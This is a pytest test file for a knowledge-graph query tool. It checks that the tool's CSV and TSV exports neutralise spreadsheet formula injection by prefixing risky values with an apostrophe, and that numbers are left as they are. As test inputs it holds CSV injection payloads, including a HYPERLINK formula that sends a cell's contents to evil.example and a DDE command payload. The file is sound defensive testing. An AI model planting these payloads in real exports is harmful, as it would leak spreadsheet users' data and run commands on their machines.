"""`kg query -f csv / -f tsv` (kg/sparql/formats.py): values a spreadsheet would run as formulas come out
with a leading `'` (OWASP's CSV injection rule); numbers and everything else come out as they are."""
from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from kg.sparql import to_csv, to_json, to_tsv
from kg.sparql.formats import spreadsheet_safe
from kg.store.embedded import Rows, Term

from ..conftest import ROOT

XSD = "http://www.w3.org/2001/XMLSchema#"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "-2+3", "@SUM(1)", "+cmd|' /C calc'!A0",
            "=1+1", "\t=1+1", "\r=1+1", "-", "@"]
NUMBERS = [("-3.5", XSD + "decimal"), ("-3", XSD + "integer"), ("+7", XSD + "integer"), ("-1.5E3", XSD + "double"),
           ("-INF", XSD + "double"), ("-0.5", None)]


def one_column(*terms: Term | None) -> Rows:
    return Rows(["x"], [(t,) for t in terms])


def csv_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["x"]
    return [r[0] if r else "" for r in rows[1:]]


def tsv_fields(text: str) -> list[str]:
    lines = text.split("\n")
    assert lines[0] == "?x" and lines[-1] == ""
    return lines[1:-1]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_gets_a_leading_quote_in_csv_and_tsv(value):
    rows = one_column(Term.literal(value), Term.literal(value, lang="en"))
    assert csv_cells(to_csv(rows)) == ["'" + value] * 2
    assert tsv_fields(to_tsv(rows)) == [Term.literal("'" + value).n3(), Term.literal("'" + value, lang="en").n3()]
    assert all(f.startswith('"\'') for f in tsv_fields(to_tsv(rows)))  # inside the quotes Excel strips
    assert [b["x"]["value"] for b in json.loads(to_json(rows))["results"]["bindings"]] == [value] * 2  # exact


@pytest.mark.parametrize("value, datatype", NUMBERS)
def test_numbers_are_data_not_formulas_and_stay_as_they_are(value, datatype):
    term = Term.literal(value, datatype)
    assert csv_cells(to_csv(one_column(term))) == [value]
    assert tsv_fields(to_tsv(one_column(term))) == [term.n3()]


def test_a_number_that_is_not_only_a_number_is_neutralised():
    for value in ("-2+3", "-1E3+1", "+1 (555) 0100", "-3.5%", "-INF()"):
        assert csv_cells(to_csv(one_column(Term.literal(value, XSD + "decimal")))) == ["'" + value]


def test_a_semicolon_field_is_quoted_for_spreadsheets_that_split_on_it():
    out = to_csv(one_column(Term.literal("Acme;=HYPERLINK(1)"), Term.literal("plain")))
    assert out == 'x\r\n"Acme;=HYPERLINK(1)"\r\nplain\r\n'


def test_iris_blank_nodes_and_unbound_cells_are_unchanged():
    rows = Rows(["a", "b", "c"], [(Term.iri("https://example.org/-x"), Term("bnode", "b0"), None)])
    assert to_csv(rows) == "a,b,c\r\nhttps://example.org/-x,b0,\r\n"
    assert to_tsv(rows) == "?a\t?b\t?c\n<https://example.org/-x>\t_:b0\t\n"
    assert to_csv(one_column(None, Term.literal(""))) == 'x\r\n""\r\n""\r\n'  # as Python's csv writes them


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_csv_reads_back_every_value_with_only_formulas_changed(values):
    out = to_csv(one_column(*(Term.literal(v) for v in values)))
    assert csv_cells(out) == [spreadsheet_safe(v) for v in values]
    for v in values:
        safe = spreadsheet_safe(v)
        assert safe == v or (safe == "'" + v and v[:1] in "=+-@\t\r\0")


# -- through the command line ------------------------------------------------------------------------

@pytest.fixture
def bare(tmp_path) -> Path:
    """A project holding only the ontology: a quick build, and a query file of our own."""
    shutil.copytree(ROOT / "ontology", tmp_path / "ontology")
    (tmp_path / "hostile.rq").write_text(
        'SELECT ?x WHERE { VALUES ?x { "=HYPERLINK(\\"http://evil.example/?\\"&A1, \\"x\\")" "-2+3" "@SUM(1)" '
        '-3.5 "plain" } }\n', encoding="utf-8")
    return tmp_path


def test_kg_query_csv_and_tsv_neutralise_formulas_and_keep_numbers(run_kg, bare):
    csv_out = run_kg("--root", str(bare), "query", str(bare / "hostile.rq"), "-f", "csv", env={"KG_BUILD_DIR": ""})
    assert csv_out.returncode == 0, csv_out.stderr
    assert csv_cells(csv_out.stdout) == ["'=HYPERLINK(\"http://evil.example/?\"&A1, \"x\")", "'-2+3", "'@SUM(1)",
                                         "-3.5", "plain"]
    tsv_out = run_kg("--root", str(bare), "query", str(bare / "hostile.rq"), "-f", "tsv", env={"KG_BUILD_DIR": ""})
    assert tsv_out.returncode == 0, tsv_out.stderr
    assert tsv_fields(tsv_out.stdout) == ['"\'=HYPERLINK(\\"http://evil.example/?\\"&A1, \\"x\\")"', '"\'-2+3"',
                                          '"\'@SUM(1)"', f'"-3.5"^^<{XSD}decimal>', '"plain"']
    json_out = run_kg("--root", str(bare), "query", str(bare / "hostile.rq"), "-f", "json", env={"KG_BUILD_DIR": ""})
    assert '"value": "-2+3"' in json_out.stdout  # JSON keeps the exact values
